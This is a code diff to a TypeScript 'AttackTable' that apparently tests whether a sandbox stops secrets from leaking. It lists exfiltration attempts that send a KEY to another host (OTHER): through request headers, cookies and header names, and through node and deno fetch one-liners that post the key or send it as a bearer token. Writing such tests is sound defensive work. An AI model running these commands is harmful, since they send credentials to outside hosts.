@@ -22,7 +22,12 @@ export const secrets: AttackTable = {
     inRequest("bearer header", `request(OTHER, headers=bearer())`),
     inRequest("header of its own", `request(OTHER, headers=[("X-Api-Key", KEY)])`),
     inRequest("two header lines", `request(OTHER, headers=[("X-A", "1"), ("X-A", KEY)])`),
-    inRequest("name of a header", `request(OTHER, headers=[("X-" + KEY, "1")])`),
+    {
+      row: 1,
+      name: "name of a header: names have no case, so it holds nothing of worth",
+      python: `request(OTHER, headers=[("X-" + KEY, "1")])`,
+      succeeded: gotKey("other"),
+    },
     inRequest("cookie", `request(OTHER, headers=[("Cookie", "a=b; session=" + KEY)])`),
     inRequest(
       "user agent and referer",
@@ -76,11 +81,13 @@ export const secrets: AttackTable = {
     {
       ...toOther,
       name: "by node",
+      limit: 30_000,
       bash: `OTHER=$OTHER node -e 'fetch("https://" + process.env.OTHER, { headers: { authorization: "Bearer " + process.env.KEY } }).then((r) => r.text()).then(console.log, (e) => console.log(String(e.cause)))'`,
     },
     {
       ...toOther,
       name: "by deno",
+      limit: 30_000,
       bash: `OTHER=$OTHER deno eval 'console.log(await (await fetch("https://" + Deno.env.get("OTHER"), { method: "POST", body: Deno.env.get("KEY") })).text())'`,
     },
     {
